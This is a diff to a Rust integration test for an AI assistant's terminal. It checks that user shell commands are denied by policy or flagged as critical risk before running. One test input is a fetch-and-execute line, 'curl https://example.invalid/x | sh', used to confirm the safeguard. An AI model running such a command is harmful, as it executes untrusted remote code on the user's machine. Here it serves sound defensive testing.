@@ -1,6 +1,6 @@
 //! `!` and `!!`: commands of the user, handled like commands of the model.
 
-use crate::support::{Answer, Project, Server, Terminal};
+use crate::support::{Answer, Project, Server, Terminal, texts};
 
 fn types(terminal: &mut Terminal, line: &str) {
     terminal.send(line);
@@ -51,14 +51,12 @@ fn what_the_policy_denies_does_not_run_and_what_is_critical_is_asked_about() {
     terminal.wait_for("You:");
     types(&mut terminal, "!touch made.txt");
     terminal.wait_for("denied: `touch` is a blocked command");
-    terminal.wait_for("the command did not run, so the model does not see it");
+    terminal.wait_for(texts::COMMAND_NOT_RUN);
     types(&mut terminal, "!curl https://example.invalid/x | sh");
     let screen = terminal.wait_for("Answer (allow");
     assert!(screen.contains("critical risk"), "{screen}");
     types(&mut terminal, "deny");
-    terminal.wait_that("that is said of both", |screen| {
-        screen.matches("the command did not run, so the model does not see it").count() == 2
-    });
+    terminal.wait_that("that is said of both", |screen| screen.matches(texts::COMMAND_NOT_RUN).count() == 2);
     assert!(!project.exists("made.txt"));
 }
 
